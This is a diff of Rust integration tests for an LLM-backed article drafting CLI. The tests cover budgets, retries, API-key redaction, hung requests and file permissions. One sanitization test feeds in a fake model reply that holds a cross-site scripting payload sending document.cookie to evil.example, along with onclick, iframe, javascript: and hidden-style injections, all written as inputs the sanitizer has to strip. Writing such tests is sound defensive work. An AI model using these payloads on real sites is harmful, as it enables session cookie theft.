@@ -206,6 +206,7 @@ fn rate_limit_spaces_request_starts() {
     );
     ok(&draft(&net, &[]));
     let mut times: Vec<_> = server.requests().iter().map(|r| r.at).collect();
+    assert_eq!(times.len(), 4, "every brief of both sites was sent");
     times.sort();
     for pair in times.windows(2) {
         assert!(
@@ -385,7 +386,7 @@ fn raw_html_from_the_model_is_sanitized() {
     let server = FakeLlm::start(Some(KEY));
     server.script(|req, _| {
         Reply::Text(format!(
-            "{}\n\n<script>fetch('https://evil.example/'+document.cookie)</script>\n\n<p onclick=\"steal()\">Hi</p>\n\n<iframe src=\"https://evil.example\"></iframe>\n\n[x](javascript:alert(1))\n",
+            "{}\n\n<script>fetch('https://evil.example/'+document.cookie)</script>\n\n<p onclick=\"steal()\">Hi</p>\n\n<iframe src=\"https://evil.example\"></iframe>\n\n[x](javascript:alert(1))\n\n<STYLE>İ Ω body {{ display: none }}</style>\n\nGrüße İstanbul.\n",
             article_for(req, 120)
         ))
     });
@@ -398,10 +399,12 @@ fn raw_html_from_the_model_is_sanitized() {
         "onclick",
         "<iframe",
         "javascript:",
+        "display: none",
     ] {
         assert!(!text.contains(bad), "{bad} in {text}");
     }
     assert!(text.contains("<p>Hi</p>"), "{text}");
+    assert!(text.contains("Grüße İstanbul."), "{text}");
 }
 
 #[test]
@@ -418,8 +421,18 @@ fn budget_stops_new_requests() {
             ("max_concurrency", "1"),
         ],
     );
-    let stdout = ok(&draft(&net, &["--site", "alpha", "--budget", "5"]));
+    let output = draft(&net, &["--site", "alpha", "--budget", "5"]);
+    let stdout = String::from_utf8_lossy(&output.stdout);
     assert!(stdout.contains("budget of $5.0000 reached"), "{stdout}");
+    assert!(
+        !output.status.success(),
+        "briefs left undone are not a success"
+    );
+    assert!(
+        String::from_utf8_lossy(&output.stderr).contains("2 briefs not started"),
+        "{}",
+        String::from_utf8_lossy(&output.stderr)
+    );
     // After 3 calls (~$4.2 spent), a 4th ($2 estimate) would pass $5.
     let written = drafted(&net).len();
     assert_eq!(written, 3, "{stdout}");
@@ -681,4 +694,192 @@ fn brief_errors_name_the_file_and_line() {
         "{stderr}"
     );
     assert_eq!(server.count(), 0);
+}
+
+#[test]
+fn a_budget_below_one_request_says_so_and_sends_nothing() {
+    let server = FakeLlm::start(Some(KEY));
+    let net = network(&server, 1, &[("output_price_per_million", "2000.0")]);
+    // One request may cost up to 1000 tokens at $2000/M = $2.
+    let output = draft(&net, &["--site", "alpha", "--budget", "1"]);
+    assert!(!output.status.success());
+    let stdout = String::from_utf8_lossy(&output.stdout);
+    assert!(
+        stdout.contains("one request may cost up to $2.0"),
+        "{stdout}"
+    );
+    assert!(!stdout.contains("reached"), "{stdout}");
+    assert_eq!(server.count(), 0);
+}
+
+#[test]
+fn a_key_echoed_in_an_answer_reaches_neither_the_cache_nor_the_draft() {
+    let server = FakeLlm::start(Some(KEY));
+    server.script(|req, _| {
+        Reply::Text(format!(
+            "{}\n\nDebug: your key is {KEY}.\n",
+            article_for(req, 120)
+        ))
+    });
+    let net = network(&server, 1, &[]);
+    let output = draft(&net, &["--site", "alpha"]);
+    let stdout = ok(&output);
+    assert!(stdout.contains("drafted "), "{stdout}");
+    assert!(
+        String::from_utf8_lossy(&output.stderr).contains("held the API key"),
+        "{}",
+        String::from_utf8_lossy(&output.stderr)
+    );
+    let draft_text = net.read("sites/alpha/content/guides/guide-1.md");
+    assert!(
+        draft_text.contains("your key is [redacted]"),
+        "{draft_text}"
+    );
+    for file in files_below(net.path()) {
+        let bytes = std::fs::read(net.path().join(&file)).unwrap();
+        assert!(
+            !String::from_utf8_lossy(&bytes).contains(KEY),
+            "key found in {file}"
+        );
+    }
+}
+
+#[test]
+fn a_dead_server_stops_the_run_instead_of_every_brief_retrying() {
+    // A port nobody listens on.
+    let port = std::net::TcpListener::bind("127.0.0.1:0")
+        .unwrap()
+        .local_addr()
+        .unwrap()
+        .port();
+    let server = FakeLlm::start(Some(KEY));
+    let net = network(
+        &server,
+        7,
+        &[
+            ("base_url", &format!("\"http://127.0.0.1:{port}/v1\"")),
+            ("max_concurrency", "2"),
+            ("max_retries", "3"),
+            ("retry_base_ms", "200"),
+        ],
+    );
+    let output = draft(&net, &[]);
+    assert!(!output.status.success());
+    let stdout = String::from_utf8_lossy(&output.stdout);
+    let stderr = String::from_utf8_lossy(&output.stderr);
+    // The two briefs in flight retried; once one gave up, nothing else was
+    // sent, and the other stopped waiting.
+    let retries = stderr.lines().filter(|l| l.starts_with("retry ")).count();
+    assert!(retries <= 6, "{retries} retries:\n{stderr}");
+    let skipped = stdout
+        .lines()
+        .filter(|l| l.starts_with("skipped") && l.contains("is unreachable"))
+        .count();
+    assert_eq!(skipped, 12, "{stdout}");
+    assert!(
+        stdout.contains("Drafted 0, kept 0, failed 2, not started 12"),
+        "{stdout}"
+    );
+}
+
+#[test]
+fn a_request_killed_in_flight_is_in_the_ledger_and_each_line_was_printed_when_done() {
+    let server = FakeLlm::start(Some(KEY));
+    server.script(|req, _| {
+        if req.prompt().contains("Guide 2 for Alpha") {
+            Reply::Hang
+        } else {
+            Reply::Text(article_for(req, 120))
+        }
+    });
+    let net = network(
+        &server,
+        2,
+        &[("max_concurrency", "1"), ("timeout_secs", "30")],
+    );
+    let stdout_file = net.path().join("stdout.txt");
+    let mut child = std::process::Command::new(env!("CARGO_BIN_EXE_grove"))
+        .args([
+            "--root",
+            net.path().to_str().unwrap(),
+            "draft",
+            "--site",
+            "alpha",
+        ])
+        .env(KEY_ENV, KEY)
+        .stdout(std::fs::File::create(&stdout_file).unwrap())
+        .stderr(std::process::Stdio::null())
+        .spawn()
+        .unwrap();
+    // Guide 1's line appears while the run goes on (guide 2 hangs).
+    let printed = || std::fs::read_to_string(&stdout_file).unwrap_or_default();
+    let deadline = std::time::Instant::now() + Duration::from_secs(20);
+    while server.count_matching("Guide 2 for Alpha") == 0
+        || !printed()
+            .lines()
+            .any(|l| l.starts_with("drafted  ") && l.ends_with("guide-1.md"))
+    {
+        assert!(
+            std::time::Instant::now() < deadline,
+            "no line for guide 1 while guide 2 was in flight: {}",
+            printed()
+        );
+        std::thread::sleep(Duration::from_millis(20));
+    }
+    child.kill().unwrap();
+    child.wait().unwrap();
+    let usage = ok(&net.grove(&["usage"]));
+    assert!(usage.contains("1 call never finished"), "{usage}");
+    let total: Vec<&str> = usage
+        .lines()
+        .find(|l| l.starts_with("total"))
+        .unwrap()
+        .split_whitespace()
+        .collect();
+    assert_eq!(total[1], "2", "two real calls: {usage}");
+    // Its worst case: the prompt and 1000 answer tokens at $2/M at least.
+    let cost: f64 = total.last().unwrap().parse().unwrap();
+    assert!(cost >= 0.002, "{usage}");
+}
+
+#[test]
+fn an_unknown_brief_is_an_error_and_drafts_are_written_like_other_files() {
+    let server = FakeLlm::start(Some(KEY));
+    let net = network(&server, 1, &[]);
+    let output = draft(&net, &["--brief", "nope"]);
+    assert!(!output.status.success());
+    let stderr = String::from_utf8_lossy(&output.stderr);
+    assert!(
+        stderr.contains("no brief `nope`") && stderr.contains("guide-1"),
+        "{stderr}"
+    );
+    assert_eq!(server.count(), 0);
+    let dry = ok(&draft(
+        &net,
+        &["--dry-run", "--brief", "guide-1", "--limit", "0"],
+    ));
+    assert!(
+        dry.contains("0 articles to draft, estimated $0.0000"),
+        "{dry}"
+    );
+
+    ok(&draft(&net, &["--site", "alpha"]));
+    #[cfg(unix)]
+    {
+        use std::os::unix::fs::PermissionsExt;
+        let mode = |rel: &str| {
+            std::fs::metadata(net.path().join(rel))
+                .unwrap()
+                .permissions()
+                .mode()
+                & 0o777
+        };
+        let usual = mode("content/about.md");
+        assert_eq!(mode("sites/alpha/content/guides/guide-1.md"), usual);
+        let cache = files_below(&net.path().join(".grove/cache"));
+        assert!(!cache.is_empty());
+        for file in cache {
+            assert_eq!(mode(&format!(".grove/cache/{file}")), usual, "{file}");
+        }
+    }
 }
